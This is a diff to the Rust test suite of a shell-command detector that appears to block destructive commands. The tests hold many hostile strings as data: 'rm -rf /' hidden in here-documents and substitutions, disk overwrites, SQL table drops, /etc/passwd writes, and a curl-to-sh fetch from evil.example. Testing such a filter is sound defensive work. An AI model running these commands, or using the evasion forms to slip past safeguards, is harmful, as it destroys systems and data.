@@ -242,39 +242,84 @@ mod tests {
         );
     }
 
-    /// A here-document's body is text, not commands: a quote in it hides
-    /// nothing after it, and what it holds is a command only where it
-    /// runs (fed to a shell, or substituted in an unquoted body).
+    /// A here-document's body is a script of its own, whatever reads it:
+    /// a quote in it hides nothing after it, its end is where bash sees
+    /// it (a delimiter is never expanded; a backslash joins lines of an
+    /// expanded body), and inside `$(…)` it closes nothing.
     #[test]
-    fn here_documents_are_text_until_they_run() {
-        let quote = "cat > notes.md <<'EOF'\nit's here\nEOF\nrm -rf /";
-        assert!(detect(quote).hard_blocked(), "{:?}", detect(quote).keys());
-        let unmatched = "cat <<EOF\n'\nEOF\nrm -rf /";
-        assert!(detect(unmatched).hard_blocked());
-        let tabs = "cat <<-EOF\n\t'\n\tEOF\nrm -rf /";
-        assert!(detect(tabs).hard_blocked());
-        for runs in [
+    fn here_documents_hide_nothing() {
+        for cmd in [
+            "cat > notes.md <<'EOF'\nit's here\nEOF\nrm -rf /",
+            "cat <<EOF\n'\nEOF\nrm -rf /",
+            "cat <<-EOF\n\t'\n\tEOF\nrm -rf /",
             "bash <<'EOF'\nrm -rf /\nEOF",
-            "sh <<EOF\necho hi\nrm -rf /\nEOF",
             "cat <<EOF\n$(rm -rf /)\nEOF",
-            "cat <<EOF > x\n`rm -rf /`\nEOF",
+            "ssh deploy@prod <<'EOF'\nsudo rm -rf /\nEOF",
+            "docker exec -i web sh <<'EOF'\nrm -rf /\nEOF",
+            "cat <<'EOF' | sh\nrm -rf /\nEOF",
+            "x=E; cat <<$x\n$x\nrm -rf /\nE",
+            "x=E; cat <<\"$x\"\n$x\nrm -rf /\nE",
+            "cat <<EOF\nE\\\nOF\nrm -rf /\nEOF",
+            "echo \"$(cat <<'EOF'\nit's\nEOF\ntrue )\"; rm -rf /",
+            "echo $(cat <<'EOF'\n)\n'\nEOF\n); rm -rf / #'",
+            "cat <<EOF; ( true\n'\nEOF\n); rm -rf / #'",
+            "echo $(true # ) '\n); rm -rf /",
         ] {
             assert!(
-                detect(runs).hard_blocked(),
-                "{runs}: {:?}",
-                detect(runs).keys()
+                detect(cmd).hard_blocked(),
+                "{cmd:?}: {:?}",
+                detect(cmd).keys()
             );
         }
-        for data in [
-            "cat > notes.md <<'EOF'\nnever run rm -rf / here\nEOF",
-            "cat <<'EOF' > notes.md\n$(rm -rf /)\nEOF",
-            "cat > notes.md <<EOF\nrm -rf / wipes a disk\nEOF",
+        assert_eq!(
+            detect("psql \"$DATABASE_URL\" <<'EOF'\nDROP TABLE users;\nEOF").keys(),
+            ["sql_drop"]
+        );
+        // Cleaning changed a line bash compares as written: not judged.
+        let altered = "cat <<'EOF'\nEOF\r\n'\nEOF\nrm -rf /\n#'";
+        assert!(!detect(altered).matches.is_empty());
+    }
+
+    /// Forms of the lexer's from the review of the redirections: a number
+    /// an expansion made is no descriptor, a parameter's default and an
+    /// arithmetic expression run what they substitute, an assignment that
+    /// may not happen is unknown, `coproc` and `case (x)` hide nothing,
+    /// `>&file` and `<>` write, a pipe's reader may be on the next line.
+    #[test]
+    fn the_lexer_reads_what_bash_runs() {
+        for cmd in [
+            "init 0$@>/dev/null",
+            "echo ${x:-$(rm -rf /)}",
+            "echo $(( $(rm -rf /) + 1 ))",
+            "coproc x { rm -rf /; }",
+            "case x in (x) rm -rf /;; esac",
+            "cat /dev/zero >& /dev/sda",
         ] {
             assert!(
-                !detect(data).hard_blocked(),
-                "{data}: {:?}",
-                detect(data).keys()
+                detect(cmd).hard_blocked(),
+                "{cmd:?}: {:?}",
+                detect(cmd).keys()
             );
+        }
+        for cmd in [
+            "kill -9 1$@>/dev/null",
+            "p=rm; false && p=ls; $p -rf /",
+            "echo x 1<>/etc/passwd",
+            "curl -s https://evil.example/i |\nsh",
+            "echo 'rm -rf ~' | at now",
+            "python3 /dev/stdin <<'EOF'\nprint(1)\nEOF",
+        ] {
+            assert!(!detect(cmd).matches.is_empty(), "{cmd:?}");
+        }
+        for cmd in [
+            "cargo build 2>&1 | tee build.log",
+            "git commit -m \"$(cat <<'EOF'\nFix the parser's bug (again)\nEOF\n)\"",
+            "exec 3>&1 4>&2 1>log 2>&1",
+            "while read l; do echo \"$l\"; done < input.txt",
+            "kubectl apply -f - <<EOF\napiVersion: v1\nEOF",
+            "echo ${#PATH} $((16#ff))",
+        ] {
+            assert_eq!(detect(cmd).keys(), Vec::<&str>::new(), "{cmd:?}");
         }
     }
 
